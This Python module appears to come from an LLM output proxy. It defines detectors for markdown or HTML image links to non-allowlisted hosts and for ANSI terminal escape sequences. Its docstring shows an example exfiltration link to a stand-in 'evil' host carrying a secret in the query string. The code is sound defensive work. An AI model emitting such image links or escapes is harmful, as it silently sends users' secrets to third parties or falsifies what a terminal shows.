"""Output that attacks the client rather than leaking a value (SECURITY_TESTS I9).

- markdown_image: `![x](https://evil/?q=<secret>)` makes the client's renderer send
  data to a third party with no click; also raw `<img src=...>`. Hosts on the
  policy's allowlist pass.
- ansi: terminal escape sequences (CSI, OSC hyperlinks/title, 8-bit C1) that can
  rewrite what a terminal user sees. The default marker for these is "" (strip).
"""

from __future__ import annotations

from typing import Iterable
from urllib.parse import urlsplit

import regex

from proxy.leak.pattern import PatternDetector

_IMAGE = regex.compile(
    r"(?P<markdown_image>!\[[^\]\n]{0,512}\]\(\s{0,8}<?(?P<url>[^)\s>]{1,2048})>?(?:\s{1,8}(?:\"[^\"\n]{0,256}\"|'[^'\n]{0,256}'))?\s{0,8}\))"
    r"|(?P<html_image>(?i:<img\b[^>]{0,2048}>))"
)
_HTML_SRC = regex.compile(r"""(?i)\bsrc\s*=\s*["']?([^"'\s>]+)""")

_ANSI = regex.compile(
    r"(?P<osc>\x1b\][^\x07\x1b\x9c]{0,4096}(?:\x07|\x1b\\|\x9c))"  # OSC: title, hyperlinks
    r"|(?P<csi>(?:\x1b\[|\x9b)[0-?]{0,64}[ -/]{0,8}[@-~])"  # CSI: colours, cursor moves, erase
    r"|(?P<esc>\x1b[ -/]{0,8}[0-~]?|[\x80-\x9f])"  # other escapes and 8-bit C1 controls
)


def _host(url: str) -> str:
    try:
        return (urlsplit(url if "//" in url else "//" + url).hostname or "").lower()
    except ValueError:
        return ""


def image_detector(allow_hosts: Iterable[str] = ()) -> PatternDetector:
    allowed = frozenset(h.lower() for h in allow_hosts)

    def external(m) -> bool:
        if m.group("markdown_image") is not None:
            url = m.group("url")
        else:
            src = _HTML_SRC.search(m.group())
            url = src.group(1) if src else ""
        if not url:
            return m.group("html_image") is not None  # an <img> without a readable src: fail closed
        low = url.lower()
        if low.startswith("data:") or (not low.startswith(("http:", "https:", "//")) and ":" not in low.split("/")[0]):
            return False  # inline data or a relative path: nothing leaves the client
        host = _host(url)
        return not host or (host not in allowed and not any(host.endswith("." + a) for a in allowed))

    return PatternDetector("markdown_image", _IMAGE, 512 + 2048 + 300, kinds=("markdown_image", "html_image"), keep=external)


def ansi_detector() -> PatternDetector:
    return PatternDetector("ansi", _ANSI, 4100, kinds=("osc", "csi", "esc"))
